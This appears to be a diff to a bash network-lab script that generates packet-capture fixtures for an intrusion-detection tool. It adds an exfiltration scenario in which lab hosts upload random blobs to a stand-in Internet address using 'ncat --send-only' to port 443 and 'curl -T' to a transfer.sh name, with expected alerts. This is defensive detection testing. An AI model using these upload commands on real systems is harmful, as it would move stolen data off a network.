@@ -28,6 +28,10 @@ readonly OUT_DIR="${PKL_LAB_OUT:-$LAB_DIR/captures}"
 readonly P="pkl-"
 # 65535 keeps every payload; offloads are switched off so frames stay <= 1514 bytes.
 readonly SNAPLEN=65535
+# Scenarios that move megabytes keep the first bytes of each frame only (headers and the
+# start of a request: the rules read sequence numbers, and the capture stays small).
+readonly SHORT_SNAP_SCENARIOS=(exfil-upload)
+readonly SHORT_SNAPLEN=160
 # A capture larger than this is a runaway loop, not a fixture.
 readonly MAX_PCAP_BYTES=$((1000 * 1000))
 # Upper bound for one scenario (the longest, dhcp-flood, needs about 40 s).
@@ -41,7 +45,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel ldap-enum ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -593,11 +597,12 @@ start_services() {
 # ---------------------------------------------------------------- capture
 CAP_PID=""
 start_capture() {
-  local name=$1 i
+  local name=$1 i snap=$SNAPLEN
   rm -f "$WORK/$name.pcap"
+  [[ " ${SHORT_SNAP_SCENARIOS[*]} " == *" $name "* ]] && snap=$SHORT_SNAPLEN
   # -Z root: tcpdump would otherwise drop to a user that cannot write the private work dir.
   timeout --kill-after=3 "$SCENARIO_MAX_SECONDS" ip netns exec "${P}sw" \
-    tcpdump -i br0 -n -U -s "$SNAPLEN" -Z root -w "$WORK/$name.pcap" >"$WORK/logs/tcpdump-$name.log" 2>&1 &
+    tcpdump -i br0 -n -U -s "$snap" -Z root -w "$WORK/$name.pcap" >"$WORK/logs/tcpdump-$name.log" 2>&1 &
   CAP_PID=$!
   echo "$CAP_PID" >>"$WORK/scenario.pids"
   for i in $(seq 50); do
@@ -1372,6 +1377,32 @@ scenario_exe_download() {
     {"rule": "http.executable_download", "source": {"ip": "10.77.1.10"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"mime_type": "application/x-executable", "fetched_by": "Wget"}}]' \
     '  "exclusive": true,
   "allow": ["device.new"]'
+}
+
+scenario_exfil_upload() {
+  head -c 1500000 /dev/urandom >"$WORK/www/bundle.bin"
+  head -c 1500000 /dev/urandom >"$WORK/exfil.7z"
+  # An archive pushed to a server on the Internet over 443 (ncat accepts and never answers), as
+  # rclone or a raw socket would.
+  nsx ws20 timeout 30 ncat --send-only 198.51.100.10 443 <"$WORK/exfil.7z"
+  # A 600 kB HTTP PUT to a file-sharing service's name (curl -T, as to transfer.sh); the listener
+  # only reads (a plain ncat -l would close its side at once and curl would give up).
+  head -c 600000 /dev/urandom >"$WORK/notes.zip"
+  scen_bg inet ncat -lk --recv-only 8000
+  wait_listen inet 8000
+  nsx ws23 curl -s -o /dev/null --noproxy '*' --max-time 6 -H 'Expect:' -T "$WORK/notes.zip" http://transfer.sh:8000/notes.zip \
+    --resolve transfer.sh:8000:198.51.100.10 || true
+  # No alert: the same amount downloaded, and a 500 kB upload (under the lab's 1 MB).
+  nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 20 http://198.51.100.10/bundle.bin
+  head -c 500000 /dev/urandom | nsx ws22 timeout 30 ncat --send-only 198.51.100.10 9001
+  stop_capture
+  require exfil-upload 500 "tcp dst port 443 and src host 10.77.2.20"
+  require exfil-upload 300 "tcp dst port 8000 and src host 10.77.2.23"
+  require exfil-upload 500 "tcp src port 80 and dst host 10.77.2.21"
+  expect exfil-upload "Uploads to the Internet host 198.51.100.10, recorded with 160-byte snapshots (the rule reads sequence numbers). 10.77.2.20 sends a 1.5 MB archive to port 443 with ncat and gets nothing back; 10.77.2.23 PUTs 600 kB to transfer.sh (a file-sharing service, by its Host header) with curl -T. Must not alert: 10.77.2.21 downloads 1.5 MB over HTTP, 10.77.2.22 sends 500 kB (under the lab config's min_bytes of 1 MB)." \
+    '[{"rule": "exfil.large_upload", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 443}, "evidence": {"file_sharing": false, "destination": "198.51.100.10"}},
+    {"rule": "exfil.large_upload", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "198.51.100.10", "port": 8000}, "evidence": {"file_sharing": true, "destination": "transfer.sh"}}]' \
+    '  "exclusive": true'
 }
 
 # ------------------------------------------------------------------ runner
